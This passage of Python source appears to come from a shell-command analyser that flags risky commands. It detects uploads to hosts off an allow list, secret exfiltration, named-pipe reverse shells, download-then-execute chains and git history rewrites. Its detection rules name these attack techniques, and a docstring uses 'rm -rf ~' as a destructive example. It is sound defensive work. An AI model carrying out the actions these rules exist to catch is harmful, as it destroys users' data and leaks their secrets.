        elif name in ("http", "https", "xh", "httpie"):
            sends = any(
                re.match(r"^[\w.-]+(:?=|:=@|=@|@)", v) or v.startswith("@") for v in vals[1:]
            ) or bool(vals[:1] and vals[0].upper() in ("POST", "PUT", "PATCH"))
        elif name in ("scp", "rsync", "sftp"):
            operands = [v for v in vals if not v.startswith("-")]
            if len(operands) >= 2 and re.match(r"^([\w.-]+@)?[\w.-]+:", operands[-1]):
                host = operands[-1].split(":", 1)[0].split("@")[-1]
                # A host named by one label (`nas01:/archive`) is one of the local network's
                # or the user's own SSH configuration's: no name on the internet has one.
                if "." not in host and not host.isdigit():
                    return None
                return host if not self._allowed_host(host) else None
            return None
        if not sends:
            return None
        for u in urls:
            found = host_of(u if "://" in u else "https://" + u)
            if found and not self._allowed_host(found):
                return found
        return None

    def _allowed_host(self, host: str) -> bool:
        if host in ("localhost", "127.0.0.1", "::1", "[::1]", "0.0.0.0") or host.endswith(
            ".localhost"
        ):
            return True
        return any(domain_matches(host, p) for p in self.network_allow)

    def _upload_rules(self, cmd: _Simple) -> None:
        host = self._upload_host(cmd)
        if host is None:
            return
        text = cmd.text
        vals = self._values(cmd)
        secret_file = next(
            (
                c
                for v in vals
                for c in (v.lstrip("@<"), v.split("=@", 1)[-1], v.split("@", 1)[-1])
                if c and looks_like_path(c) and is_secret_path(c, self.home)
            ),
            None,
        )
        if secret_file or any(s.secret for w in cmd.rest for s in w.subs):
            what = secret_file or "secret-bearing output"
            self.emit("shell.exfiltration", f"{cmd.name} sends {what} to {host}", text)
        self.emit("shell.upload", f"{cmd.name} sends data to {host}, not on the allow list", text)

    def _git_rules(self, cmd: _Simple) -> None:
        if cmd.name != "git":
            return
        vals = self._values(cmd)
        i = 0
        while i < len(vals) and vals[i].startswith("-"):
            i += 2 if vals[i] in ("-C", "-c", "--git-dir", "--work-tree") else 1
        sub = vals[i:]
        if sub[:1] == ["remote"] and len(sub) >= 4 and sub[1] in ("add", "set-url"):
            operands = [v for v in sub[2:] if not v.startswith("-")]
            if len(operands) >= 2:
                self.remotes.append((operands[0], operands[1]))
        elif sub[:1] == ["push"]:
            operands = [v for v in sub[1:] if not v.startswith("-")]
            target = operands[0] if operands else "origin"
            if re.match(r"(?i)^([a-z][a-z0-9+.-]*://|[\w.-]+@[\w.-]+:)", target):
                self.emit(
                    "shell.remote-push", f"pushes to a repository given by URL ({target})", cmd.text
                )
            elif any(name == target for name, _ in self.remotes):
                self.emit(
                    "shell.remote-push", f"pushes to the remote {target}, added here", cmd.text
                )
            self.pushes.append(target)
            flags = {v.split("=", 1)[0] for v in sub[1:] if v.startswith("-")}
            refspecs = operands[1:]
            if flags & _HISTORY_REWRITE_FLAGS or any(r.startswith(("+", ":")) for r in refspecs):
                self.emit(
                    "shell.history-rewrite",
                    f"rewrites or deletes history on the remote {target}",
                    cmd.text,
                )

    # ---- whole-script rules --------------------------------------------------------------

    def _script_rules(self, cmds: list[_Simple], text: str) -> None:
        names = {c.name for c in cmds}
        if (
            names & {"mkfifo"} or any(c.name == "mknod" and "p" in self._values(c) for c in cmds)
        ) and any(self._is_net_client(c) for c in cmds):
            self.emit("shell.reverse-shell", "a named pipe wired to a network client", text)
        fetched: dict[str, str] = {}  # basename -> how it got there
        for c in cmds:
            if c.name and fetched:
                target = self._runs_file(c)
                if target is not None and _bn(target) in fetched:
                    how = fetched[_bn(target)]
                    kind = "shell.download-exec" if how == "download" else "shell.decode-exec"
                    self.emit(kind, f"runs {target} after it was {how}ed", text)
            if self._is_downloader(c):
                for f in self._download_outputs(c):
                    fetched[_bn(f)] = "download"
            elif self._is_decoder(c):
                for r in c.redirects:
                    if r.op in (">", ">>", ">|") and r.target:
                        fetched[_bn(r.target)] = "decode"

    def _download_outputs(self, cmd: _Simple) -> list[str]:
        vals = self._values(cmd)
        outs: list[str] = []
        urls = [v for v in vals if re.match(r"(?i)^(https?|ftp)://", v)]
        for i, v in enumerate(vals):
            nxt = vals[i + 1] if i + 1 < len(vals) else ""
            if cmd.name == "curl":
                if (v in ("-o", "--output") or re.fullmatch(r"-[a-zA-Z]+o", v)) and nxt:
                    outs.append(nxt)
                elif v.startswith("-o") and len(v) > 2 and not v.startswith("--"):
                    outs.append(v[2:])
                elif v in ("-O", "--remote-name") or (_flag(v, "O") and v[-1] == "O"):
                    outs.extend(posixpath.basename(u.split("?")[0]) for u in urls)
            elif cmd.name == "wget":
                if v in ("-O", "--output-document") and nxt:
                    outs.append(nxt)
                elif v.startswith("--output-document="):
                    outs.append(v.split("=", 1)[1])
        if cmd.name == "wget" and not outs:
            outs.extend(posixpath.basename(u.split("?")[0]) for u in urls)
        for r in cmd.redirects:
            if r.op in (">", ">>", ">|") and r.target:
                outs.append(r.target)
        return [o for o in outs if o and o != "-"]

    def _runs_file(self, cmd: _Simple) -> str | None:
        """The file a command executes or makes executable, if any."""
        name = cmd.name
        vals = self._values(cmd)
        if "/" in cmd.head:
            return cmd.head
        if _is_interp(name) or name in ("source", "."):
            operands = [v for v in vals if not v.startswith("-")]
            if operands:
                return operands[0]
        if name == "chmod" and vals and re.search(r"x|^[0-7]*[1357][0-7]{0,2}$", vals[0]):
            operands = [v for v in vals[1:] if not v.startswith("-")]
            if operands:
                return operands[0]
        return None


def _after(vals: list[str], option: str) -> str | None:
    """The value after `option` in `vals`."""
    for i, v in enumerate(vals[:-1]):
        if v == option:
            return vals[i + 1]
    return None


_READ_ONLY = frozenset(
    [
        "ls",
        "cat",
        "head",
        "tail",
        "less",
        "more",
        "wc",
        "grep",
        "egrep",
        "fgrep",
        "rg",
        "ag",
        "echo",
        "printf",
        "pwd",
        "which",
        "whoami",
        "date",
        "stat",
        "file",
        "du",
        "df",
        "tree",
        "diff",
        "sort",
        "uniq",
        "cut",
        "jq",
        "basename",
        "dirname",
        "realpath",
        "true",
        "false",
        "test",
        "[",
        "type",
        "uname",
        "nl",
        "column",
        "cd",
        "free",
        "uptime",
        "id",
        "ps",
        "hostname",
        "crontab",
        "systemctl",
        "service",
        "journalctl",
    ]
)
# What `hostname` prints with (any other option or a name sets the host's name).
_HOSTNAME_READS = frozenset(
    {"-a", "-A", "-d", "-f", "-i", "-I", "-s", "-y", "--alias", "--all-fqdns", "--domain",
     "--fqdn", "--long", "--ip-address", "--all-ip-addresses", "--short", "--nis"}
)  # fmt: skip
# `systemctl` subcommands that report and change nothing.
_SYSTEMCTL_READS = frozenset(
    {"status", "show", "cat", "is-active", "is-enabled", "is-failed", "list-units",
     "list-unit-files", "list-timers", "list-sockets", "list-dependencies"}
)  # fmt: skip
# `journalctl` options that change the journal (the rest read it).
_JOURNAL_WRITES = frozenset(
    {"--vacuum-size", "--vacuum-time", "--vacuum-files", "--rotate", "--flush", "--sync",
     "--relinquish-var", "--smart-relinquish-var", "--setup-keys", "--update-catalog"}
)  # fmt: skip


def _reads_only(name: str, vals: list[str]) -> bool:
    """For the commands of `_READ_ONLY` that also change things with some arguments: whether
    these arguments only read (`crontab -l` but not `crontab -r`, `date +%F` but not `date -s`)."""
    pos = [v for v in vals if not v.startswith("-")]
    if name == "hostname":
        return not pos and all(v in _HOSTNAME_READS for v in vals)
    if name == "date":
        return all(v.startswith("+") for v in pos) and not any(
            v in ("-s", "--set") or v.startswith("--set=") for v in vals
        )
    if name == "crontab":  # list the table, for oneself or a named user
        return "-l" in vals and all(v in ("-l", "-u") for v in vals if v.startswith("-"))
    if name == "systemctl":
        return bool(pos) and pos[0] in _SYSTEMCTL_READS
    if name == "service":  # `service NAME status`, `service --status-all`
        return vals == ["--status-all"] or (len(pos) == 2 and pos[1] == "status")
    if name == "journalctl":
        return not any(v.split("=", 1)[0] in _JOURNAL_WRITES for v in vals)
    return True


_GIT_READS = frozenset(
    [
        "status",
        "log",
        "diff",
        "show",
        "rev-parse",
        "ls-files",
        "blame",
        "describe",
        "shortlog",
        "grep",
        "reflog",
    ]
)


# Checkers that only read source files and report (when run without fixing): the subcommand or
# flag each needs, if any. Linters and type checkers that run plugins or configuration code
# from the project (eslint, mypy, pylint) are not among them.
_CHECKERS: dict[str, frozenset[str]] = {
    "ruff": frozenset({"check"}),
    "black": frozenset({"--check", "--diff"}),
    "isort": frozenset({"--check", "--check-only", "--diff"}),
    "shellcheck": frozenset(),
    "yamllint": frozenset(),
}
_FIXING_FLAGS = frozenset({"--fix", "--unsafe-fixes", "--add-noqa", "--fix-only", "--watch"})


def _checks_only(name: str, vals: list[str]) -> bool:
    """`ruff check src`, `black --check .`: a checker run so that it changes nothing."""
    needs = _CHECKERS.get(name)
    if needs is None or any(v.split("=", 1)[0] in _FIXING_FLAGS for v in vals):
        return False
    if name == "ruff":
        pos = [v for v in vals if not v.startswith("-")]
        return bool(pos) and pos[0] in needs
    return not needs or any(v in needs for v in vals)


def _read_only(an: _Analyzer) -> bool:
    """Whether every command only reads or prints, writing nothing but /dev/null."""
    if not an.parsed or not an.commands:
        return False
    if any(s.kind != "shell.nested" for s in an.signals):
        return False
    for c in an.commands:
        if not c.name:
            return False
        vals = [w.value for w in c.rest]
        if any(
            r.op not in ("<", "<<", "<<<", "<<-")
            and r.target not in ("/dev/null", "&1", "&2", "1", "2")
            for r in c.redirects
        ):
            return False
        if c.name == "git":
            pos = [v for v in vals if not v.startswith("-")]
            if not pos or pos[0] not in _GIT_READS:
                return False
            continue
        if c.name in _CHECKERS:
            if not _checks_only(c.name, vals):
                return False
            continue
        if c.name not in _READ_ONLY or not _reads_only(c.name, vals):
            return False
        if c.name in ("cat", "head", "tail", "less", "more", "nl") and any(
            an._outside(v) for v in vals if not v.startswith("-") and looks_like_path(v)
        ):
            return False
    return True


def _bn(path: str) -> str:
    return posixpath.basename(path.rstrip("/"))


def _iter_signals(signals: list[Signal]) -> Iterator[Signal]:
    order = {"shell.nested": 1, "shell.unparsed": 2}
    yield from sorted(signals, key=lambda s: order.get(s.kind, 0))


def analyze_shell(
    command: str,
    *,
    roots: Sequence[str] = (),
    home: str = "~",
    cwd: str | None = None,
    network_allow: Sequence[str] = (),
) -> ShellAnalysis:
    """Parse `command` and report what it does (see the module doc). `network_allow` holds
    the domain patterns data may be sent to without a `shell.upload` signal.

    `analyze_shell("rm -rf build/", roots=["/w"], cwd="/w").signals` -> ();
    `analyze_shell("rm -rf ~").signals[0].kind` -> "shell.destructive-outside-workspace".
    """
    if not isinstance(command, str):
        raise TypeError(f"command must be a str, not {type(command).__name__}")
    an = _Analyzer(roots, home, cwd, network_allow)
    downloads: list[str] = []
    runs: list[str] = []
    removes: list[str] = []
    try:
        an.run(command, 0)
        for c in an.commands:
            if c.name in _DESTROYERS:
                removes.extend(
                    w.value for w in c.rest if not w.unknown and not w.value.startswith("-")
                )
            if c.name and an._is_downloader(c):
                downloads.extend(an._download_outputs(c))
            target = an._runs_file(c) if c.name else None
            if target:
                runs.append(target)
    except Exception as exc:  # fail closed: an analyser fault reads as "could not parse"
        an.unparsed(f"the analyser failed ({type(exc).__name__})", command[:200])
    commands = tuple(Command(tuple(c.argv), c.text) for c in an.commands if c.argv)
    return ShellAnalysis(
        commands,
        tuple(_iter_signals(an.signals)),
        an.parsed,
        downloads=tuple(downloads[:64]),
        runs=tuple(runs[:64]),
        remotes=tuple(an.remotes[:64]),
        pushes=tuple(an.pushes[:64]),
        read_only=_read_only(an),
        removes=tuple(removes[:64]),
    )
